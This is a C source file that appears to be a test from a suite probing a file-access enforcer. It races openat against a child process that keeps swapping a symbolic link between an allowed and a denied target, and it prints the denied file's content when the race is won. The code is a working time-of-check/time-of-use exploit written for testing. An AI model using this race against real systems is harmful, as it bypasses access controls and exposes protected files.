// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: the object that is opened is the object that was judged, although a
 * symbolic link on the way is exchanged all the time (catalogue B1).
 *
 *	opener			swapper			enforcer
 *	openat(link) --------------------------------->	resolves link: permitted
 *				unlinkat(link)
 *				symlinkat(denied, link)
 *	kernel walks link: denied <-------------------	lets the call through
 *
 * The link lies in the scratch directory. It is made anew, not exchanged: an
 * enforcer that judges renames would hold the swapper up each time. Winning
 * prints DATA and the content of the denied file.
 */
#include "attack.h"

static char link_name[PATH_MAX];
static const char *targets[2];

static void swap_run(struct flip *flip)
{
	for (unsigned int turn = 1; !atomic_load(&flip->stop); turn++) {
		syscall(SYS_unlinkat, JUNK(way_from), link_name, JUNK(0));
		syscall(SYS_symlinkat, targets[turn % 2], JUNK(way_from), link_name);
		atomic_store(&flip->turns, turn);
		spin(flip_pause(turn));
	}
}

static void race(struct run *run, const char *first, const char *second)
{
	run_learn_decoy(run);
	targets[0] = first;
	targets[1] = second;
	join(link_name, run->dir, "link");
	unlinkat(way_from, link_name, 0);
	if (symlinkat(first, way_from, link_name))
		broken("symlink %s: %s", link_name, strerror(errno));
	race_against_child(run, shared_memory(sizeof(struct flip)), swap_run, link_name);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		run.limit = BENIGN_ROUNDS;
		race(&run, run.allowed, run.allowed);
		break;
	case MODE_DIRECT:
		run_plain_read(&run, run.denied);
		break;
	case MODE_ATTACK:
		race(&run, run.allowed, run.denied);
		break;
	}
	run_end(&run);
}
